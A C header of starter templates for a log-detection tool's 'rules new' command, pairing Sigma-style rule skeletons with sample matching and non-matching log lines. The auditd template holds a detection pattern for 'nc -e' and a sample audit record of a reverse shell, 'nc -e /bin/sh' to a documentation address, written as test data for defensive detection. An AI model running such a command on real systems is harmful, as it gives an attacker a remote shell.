/*
 * What `khien rules new` starts from: for each kind of log a selection that works and one line of log on either side
 * of it. {s} is a second of two digits, so that lines can be repeated; in the rule's own text {name}, {title}, {id},
 * {id2} and {date} are filled in.
 */
#ifndef KHIEN_CMD_RULES_NEW_TEMPLATES_H
#define KHIEN_CMD_RULES_NEW_TEMPLATES_H

struct rules_template {
	const char *logsource, *selection, *fields; /* YAML, indented as they stand in the rule */
	const char *tags;
	const char *group; /* the field that a correlation counts by */
	const char *hit, *miss;
};

static const char *const rules_new_head = "title: {title}\n"
                                          "id: {id}\n"
                                          "name: {name}                  # evidence is named after it: hit/{name}.log\n"
                                          "status: experimental\n"
                                          "description: What it sees, in one sentence; what it needs to be logged.\n"
                                          "date: {date}\n";

static const char *const rules_new_tail =
        "falsepositives:\n"
        "  - Who does the same without harm, and how to tell\n"
        "level: medium                 # informational, low, medium, high, critical\n"
        "advice:                       # one line for whoever is on duty: what to do first\n"
        "  vi: Kiểm tra ai đã làm việc này và vì sao; nếu không ai biết, chặn địa chỉ hoặc khoá tài khoản.\n"
        "  en: Find out who did this and why; if nobody knows, block the address or lock the account.\n"
        "  zh: 查明是谁、为何这样做；若无人知晓，封锁该地址或锁定该账户。\n";

static const char *const rules_new_counted = "title: One of what {name} counts\n"
                                             "id: {id2}\n"
                                             "name: {name}_event\n"
                                             "status: experimental\n";

static const char *const rules_new_correlation =
        "correlation:\n"
        "  type: event_count           # or value_count, temporal, temporal_ordered, ...: docs/sigma.md\n"
        "  rules:\n"
        "    - {name}_event\n"
        "  group-by:\n"
        "    - {group}\n"
        "  timespan: 10m\n"
        "  condition:\n"
        "    gte: 5                    # twice what is usual in your busiest ten minutes\n";

enum { RULES_NEW_COUNT = 5 }; /* what that condition wants */

static const struct rules_template rules_new_templates[] = {
	{
	        .logsource = "  category: webserver\n",
	        .selection = "    cs-method: POST\n"
	                     "    cs-uri-stem|startswith: /admin/\n"
	                     "    sc-status: 403\n",
	        .fields = "  - c-ip\n  - c-uri\n  - cs-user-agent\n",
	        .tags = "  - attack.reconnaissance\n  - attack.t1595\n",
	        .group = "c-ip",
	        .hit = "203.0.113.7 - - [01/Mar/2026:08:00:{s} +0000] \"POST /admin/users HTTP/1.1\" 403 153 \"-\" "
	               "\"curl/7.88.1\"\n",
	        .miss = "198.51.100.9 - - [01/Mar/2026:08:00:{s} +0000] \"POST /admin/users HTTP/1.1\" 200 912 \"-\" "
	                "\"curl/7.88.1\"\n",
	},
	{
	        .logsource = "  product: linux\n  service: sshd\n",
	        .selection = "    event.action: ssh_login\n"
	                     "    event.outcome: failure\n"
	                     "    user.name: root\n",
	        .fields = "  - user.name\n  - source.ip\n",
	        .tags = "  - attack.credential-access\n  - attack.t1110\n",
	        .group = "source.ip",
	        .hit = "2026-03-01T08:00:{s}+00:00 web1 sshd[811]: Failed password for root from 203.0.113.7 port "
	               "50{s} ssh2\n",
	        .miss = "2026-03-01T08:00:{s}+00:00 web1 sshd[812]: Failed password for bob from 198.51.100.9 port "
	                "50{s} ssh2\n",
	},
	{
	        .logsource = "  product: linux\n  service: sudo\n",
	        .selection = "    event.action: sudo_command\n"
	                     "    USER: root\n"
	                     "    COMMAND|startswith: /usr/bin/visudo\n",
	        .fields = "  - user.name\n  - COMMAND\n",
	        .tags = "  - attack.privilege-escalation\n  - attack.t1548.003\n",
	        .group = "user.name",
	        .hit = "2026-03-01T08:00:{s}+00:00 web1 sudo:       an : TTY=pts/0 ; PWD=/home/an ; USER=root ; "
	               "COMMAND=/usr/bin/visudo -f /etc/sudoers.d/an\n",
	        .miss = "2026-03-01T08:00:{s}+00:00 web1 sudo:       an : TTY=pts/0 ; PWD=/home/an ; USER=root ; "
	                "COMMAND=/usr/bin/apt upgrade\n",
	},
	{
	        .logsource = "  product: linux\n  service: auditd\n",
	        .selection = "    key: khien_exec           # as khien.audit.rules names the records\n"
	                     "    process.command_line|startswith: nc -e\n",
	        .fields = "  - AUID\n  - process.command_line\n  - exe\n",
	        .tags = "  - attack.execution\n  - attack.t1059.004\n",
	        .group = "auid",
	        .hit = "type=SYSCALL msg=audit(17723520{s}.000:1{s}): arch=c000003e syscall=59 success=yes exit=0 "
	               "ppid=900 pid=9{s} "
	               "auid=1000 uid=1000 comm=\"nc\" exe=\"/usr/bin/nc.traditional\" key=\"khien_exec\"\n"
	               "type=EXECVE msg=audit(17723520{s}.000:1{s}): argc=4 a0=\"nc\" a1=\"-e\" a2=\"/bin/sh\" "
	               "a3=\"203.0.113.7\"\n"
	               "type=EOE msg=audit(17723520{s}.000:1{s}): \n",
	        .miss = "type=SYSCALL msg=audit(17723520{s}.000:1{s}): arch=c000003e syscall=59 success=yes exit=0 "
	                "ppid=900 pid=9{s} "
	                "auid=1000 uid=1000 comm=\"nc\" exe=\"/usr/bin/nc.traditional\" key=\"khien_exec\"\n"
	                "type=EXECVE msg=audit(17723520{s}.000:1{s}): argc=4 a0=\"nc\" a1=\"-z\" a2=\"192.0.2.10\" "
	                "a3=\"443\"\n"
	                "type=EOE msg=audit(17723520{s}.000:1{s}): \n",
	},
	{
	        .logsource = "  product: portal             # what stands in event.dataset\n",
	        .selection = "    action: export\n"
	                     "    rows|gte: 1000\n",
	        .fields = "  - user\n  - rows\n",
	        .tags = "  - attack.collection\n  - attack.t1213\n",
	        .group = "user",
	        .hit = "{\"@timestamp\":\"2026-03-01T08:00:{s}Z\",\"event.dataset\":\"portal\",\"action\":\"export\","
	               "\"user\":\"an\",\"rows\":5000}\n",
	        .miss = "{\"@timestamp\":\"2026-03-01T08:00:{s}Z\",\"event.dataset\":\"portal\",\"action\":\"export\","
	                "\"user\":\"an\",\"rows\":20}\n",
	},
};

#endif
